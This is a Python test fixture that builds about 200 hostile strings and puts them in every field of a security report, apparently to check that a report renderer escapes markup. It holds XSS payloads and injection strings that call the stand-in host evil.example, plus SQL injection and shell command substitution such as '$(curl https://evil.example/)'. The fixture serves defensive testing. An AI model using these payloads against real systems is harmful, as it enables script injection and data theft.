"""Two hundred strings that try to become markup, script, style or a link, for every field of a report."""

from __future__ import annotations

import copy
from itertools import product
from typing import Any

from tests.reports.sample import FINDINGS, sample_report

# What a payload would do if it ran: leave a mark, and ask the network.
RUN = "window.ran=1;fetch('https://evil.example/'+1)"

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    "</li></ol></details>",
)
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    '<svg><script href="https://evil.example/a.js"/></svg>',
    f'<details open ontoggle="{RUN}">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/f"></iframe>',
    '<link rel=stylesheet href="https://evil.example/a.css">',
    '<style>@import "https://evil.example/b.css";</style>',
    '<img src="https://evil.example/p.gif">',
    '<object data="https://evil.example/o"></object>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<form action="https://evil.example/"><input autofocus onfocus="{RUN}">',
    f'<math><mtext><img src=1 onerror="{RUN}"></mtext></math>',
    f'<body onload="{RUN}">',
)
_OTHERS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/x",
    "https:evil.example",
    f'https://evil.example/" onmouseover="{RUN}',
    f"https://evil.example/' onclick='{RUN}",
    f"https://evil.example/><script>{RUN}</script>",
    "https://evil.example/\u202e/txt.exe",
    f'" autofocus onfocus="{RUN}" x="',
    f"' style='background:url(https://evil.example/s)' onclick='{RUN}",
    "{{7*7}}{% include 'x' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<!--<script>",
    '<!--#exec cmd="id"-->',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "https://evil.example/">]>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003e",
    "\u2028</script>\u2029",
    "\u202e<script>\u202c",
    "\x00<script>\x1b[31m",
    "\ud83d\ude00<b>",
    "\ufeff<svg/onload=1>",
    "＜script＞",
    "%3Cscript%3E",
    "+ADw-script+AD4-",
    "__proto__",
    "constructor",
    '["script",{},"x"]',
    'span.sev" onclick="x',
    "#f-0123456789abcdef",
    "owner=a&severity=critical#x",
    "a,b%2Cc",
    "'; DROP TABLE findings;--",
    "$(curl https://evil.example/)",
    "`curl https://evil.example/`",
    "\n\n# heading\n<script>",
)

STRINGS: tuple[str, ...] = (*(a + b for a, b in product(_BREAKOUTS, _ELEMENTS)), *_OTHERS)


def hostile_report(strings: tuple[str, ...] = STRINGS) -> dict[str, Any]:
    """A finding for each string, with the string in every field, and one of each around the findings."""
    report = sample_report()
    report["findings"] = [_finding(number, text) for number, text in enumerate(strings)]
    for number, text in enumerate(strings):
        report["coverage"].append(
            dict.fromkeys(("provider", "scope", "region", "type", "message"), text)
            | {"status": ("denied", "checked")[number % 2], "resources": 1}
        )
        report["problems"].append({"source": text, "message": text})
        report["unverifiable"].append(dict.fromkeys(report["unverifiable"][0], text))
        report["suppressed"].append(dict.fromkeys(report["suppressed"][0], text))
        report["resolved"].append(dict.fromkeys(report["resolved"][0], text))
    report["run"] |= {"id": strings[0], "environment": strings[1], "version": strings[2]}
    report["run"]["declared"] = [
        dict.fromkeys(("source", "location", "ref", "commit"), text) for text in strings
    ]
    return report


def _finding(number: int, text: str) -> dict[str, Any]:
    finding = copy.deepcopy(FINDINGS[number % len(FINDINGS)])
    finding |= dict.fromkeys(("provider", "scope", "region", "type", "resource_id", "name", "owner"), text)
    finding |= dict.fromkeys(("severity_reason", "note", "first_seen", "environment"), text)
    finding |= {
        "id": f"f-{number:016x}",
        "content": {text: text, "list": [text, text], "deep": {text: [text]}},
    }
    finding["links"] = {"console": text, "declared": text}
    finding["declared_at"] = dict.fromkeys(("source", "file", "address", "commit", "line"), text)
    finding["attribution"] = dict.fromkeys(("actor", "time", "event", "evidence"), text)
    if number % 3 == 0:
        finding |= {"severity": text, "kind": text, "status": text, "id": text}
    if finding["kind"] not in ("missing", "unmanaged"):
        finding["changes"] = [
            {"path": f"/{text}", "declared": text, "live": text + "!", "note": text},
            {"path": "/lines", "declared": f"{text}\n{text}", "live": f"{text}\n{text}!\nx"},
            {"path": "/object", "declared": {text: [text]}, "live": {text: {text: text}}},
            {
                "path": "/set",
                "declared": [text],
                "live": [{text: text}],
                "written_at": {"file": text, "line": text},
            },
        ]
    return finding
